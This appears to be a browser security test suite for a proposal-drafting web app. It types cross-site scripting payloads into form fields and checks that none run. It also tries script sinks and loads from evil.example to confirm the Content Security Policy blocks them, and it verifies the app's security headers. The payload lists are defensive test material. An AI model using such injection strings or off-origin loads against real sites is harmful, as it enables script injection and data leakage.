"""What somebody has typed is text and stays text; nothing from elsewhere is loaded or run."""

import json
import re
import urllib.request
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Error, expect

from browser.making import ask, draft
from browser.sessions import STRANGE, sessions, strange
from figures import figure

__all__ = ["draft", "sessions", "strange"]
pytestmark = pytest.mark.browser

WATCH = """
  window.ran = []; window.violations = [];
  window.alert = window.confirm = window.prompt = () => window.ran.push('dialog');
  document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));
"""
ATTACKS = [
    "<script>ran.push(1)</script>",
    "<img src=x onerror=ran.push(1)>",
    "</script><script>ran.push(1)</script><!--",
    "<svg/onload=ran.push(1)>",
    '"><iframe srcdoc="<script>parent.ran.push(1)</script>">',
    "javascript:ran.push(1)",
    "[链接](javascript:ran.push(1)) https://evil.example/?x=<b>",
    "{{constructor.constructor('ran.push(1)')()}} ${ran.push(1)}",
    "<form id=app name=cookie><input name=baseURI><a id=session href=//evil.example>",
    "__proto__ constructor toString",
]
SINKS = {
    "element.innerHTML": "document.body.innerHTML = '<img src=x onerror=ran.push(1)>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "outerHTML": "document.body.firstElementChild.outerHTML = '<b>x</b>'",
    "document.write": "document.write('<script>ran.push(1)<\\/script>')",
    "srcdoc": "document.createElement('iframe').srcdoc = '<script>parent.ran.push(1)<\\/script>'",
    "script.text": "document.body.append(Object.assign(document.createElement('script'), { text: 'ran.push(1)' }))",
    "script.src": "document.createElement('script').src = 'data:text/javascript,ran.push(1)'",
    "script elsewhere": "load('script', 'src', 'https://evil.example/x.js')",
    "onclick": "document.body.setAttribute('onclick', 'ran.push(1)')",
    "DOMParser": "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "eval": "(0, eval)('ran.push(1)')",
    "Function": "new Function('ran.push(1)')()",
    "setTimeout": "setTimeout('ran.push(1)', 0)",
    "policy": "trustedTypes.createPolicy('another', { createHTML: (x) => x })",
    "default policy": "trustedTypes.createPolicy('default', { createHTML: (x) => x })",
}
BLOCKED = {
    "style elsewhere": "load('link', 'href', 'https://evil.example/x.css')",
    "style as data": "load('link', 'href', 'data:text/css,*{}')",
    "image elsewhere": "load('img', 'src', 'https://evil.example/x.png')",
    "frame": "load('iframe', 'src', '/')",
    "base": "document.querySelector('base').setAttribute('href', 'https://evil.example/')",
    "style": "document.head.append(Object.assign(document.createElement('style'), { textContent: '*{}' }))",
    "fetch elsewhere": "fetch('https://evil.example/').catch(() => 0)",
    "form elsewhere": "send('https://evil.example/')",
    "javascript: address": "location.assign('javascript:ran.push(1)')",
}
HELP = """
  window.load = (tag, name, url) => { const e = document.createElement(tag);
    if (tag === 'link') e.rel = 'stylesheet'; e.setAttribute(name, url); document.head.append(e); };
  window.send = (url) => { const f = document.createElement('form'); f.method = 'post'; f.action = url;
    document.body.append(f); f.submit(); };
"""
FILES = re.compile(r"[\w.-]+-[\w-]{8}\.(?:js|css)\b")
TYPES = {
    "": "text/html",
    ".js": "text/javascript",
    ".css": "text/css",
    ".svg": "image/svg+xml",
}


def quiet(page):
    """Check that nothing of what was typed has run, and that the browser had nothing to stop."""
    assert page.evaluate("ran") == []
    assert page.evaluate("violations") == []
    assert page.evaluate("({}).polluted") is None


def test_every_text_is_shown_as_it_was_typed(visit, draft, sessions):
    lead = visit()
    sessions.of(lead, "jia")
    lead.context.add_init_script(WATCH)
    text, one_line = "\n".join(ATTACKS), " ".join(ATTACKS)
    made = draft(lead, one_line[:100])
    made.write("aims", aims=text)
    made.write("methods", methods=text, schedule=text, outputs=text)
    made.write("terms", data_terms=text, ip_terms=text)
    member = ask(lead, "GET", "institutions")["items"][0]["id"]
    part = {"institution_id": member, "role": "participating", "task": one_line[:100]}
    ask(lead, "POST", f"proposals/{made.id}/participations", part)
    asked = []
    lead.context.on("request", lambda request: asked.append(urlsplit(request.url)))
    for path, words in (
        ("", made.title),
        ("/write/methods", None),
        ("/team", made.title),
        ("/submit", made.title),
    ):
        made.page(lead, path)
        quiet(lead.page)
        if words:
            assert words in lead.page.locator("main").inner_text()
    made.page(lead, "/write/aims")
    expect(lead.page.locator('[id="f-answers.aims"]')).to_have_value(text)
    lead.open("proposals")
    expect(lead.page.get_by_text(made.title).first).to_be_visible()
    quiet(lead.page)
    assert lead.page.locator("main a[href^='javascript:'], main a[href*='evil']").count() == 0
    assert {url.hostname for url in asked} == {"127.0.0.1"}
    assert {url.netloc for url in asked} == {urlsplit(lead.address).netloc}
    figure(
        "scripts and markup typed into fields: run, or stopped only by the browser",
        "0",
        "0",
        held=True,
        note=f"{len(ATTACKS)} texts in 8 fields on 6 pages",
    )
    figure(
        "requests to anybody else over these pages", "0", "0", held=True, note=f"{len(asked)} asked"
    )


def test_the_answers_written_into_the_page_are_data(visit, sessions, strange):
    visitor = visit()
    visitor.context.add_init_script(WATCH)
    sessions.enter(visitor, strange)
    for path in ("", "settings"):
        page = visitor.open(path)
        quiet(page)
        expect(page.get_by_text(STRANGE).or_(page.get_by_role("textbox")).first).to_be_visible()
    found = visitor.context.request.get(visitor.address).text()
    inside = found.partition('data-url="api/session">')[2].partition("</script>")[0]
    assert json.loads(inside)["person"]["name"] == STRANGE
    assert "<" not in inside
    assert found.count("<script") == found.count("</script>")


def test_what_a_hole_would_let_in_is_stopped_by_the_browser(visit):
    """As if a page had a hole: each way from a text to a script throws, or is reported and not run."""
    visitor = visit()
    visitor.foresee("")
    visitor.context.add_init_script(WATCH + HELP)
    page = visitor.open("")
    # In a task of the page's own: what the driver runs itself is free of the page's rules.
    passed = [
        name
        for name, code in SINKS.items()
        if page.evaluate(
            "() => new Promise(then => setTimeout(() => {"
            f" try {{ {code}; then(true) }} catch {{ then(false) }} }}))"
        )
    ]
    before = page.evaluate("violations.length")
    asked = []
    visitor.context.on("request", lambda request: asked.append((request.url, request)))
    for name, code in BLOCKED.items():
        page.evaluate(f"() => {{ {code} }}")
        with suppress(Error):
            page.wait_for_function("before => violations.length > before", arg=before, timeout=5000)
        now = page.evaluate("violations.length")
        if now == before:
            passed.append(name)
        before = now
    assert passed == []
    assert {request.failure for url, request in asked if "evil" in url} == {"csp"}
    assert page.evaluate("ran") == []
    assert page.url == visitor.address
    tried = len(SINKS) + len(BLOCKED)
    figure(
        "ways from a text to a script: open in the browser",
        "0",
        "0",
        held=True,
        note=f"{tried} tried",
    )


def test_every_file_says_what_it_is_and_to_whom_it_belongs(address):
    left, seen = ["", "icon.svg"], set()
    while left:
        name = left.pop()
        seen.add(name)
        with urllib.request.urlopen(address + name, timeout=10) as answer:  # noqa: S310  our own
            found, text = answer.headers, answer.read().decode()
        assert found.get_content_type() == TYPES[Path(name).suffix], name
        assert found["x-content-type-options"] == "nosniff"
        assert found["cross-origin-resource-policy"] == "same-origin"
        assert found["cross-origin-opener-policy"] == "same-origin"
        assert found["referrer-policy"] == "same-origin"
        assert found["set-cookie"] is None
        assert (found["cache-control"] == "no-store") is (name == "")
        more = {f"assets/{one}" for one in FILES.findall(text)}
        left += more - seen - set(left)
    assert len(seen) > 30
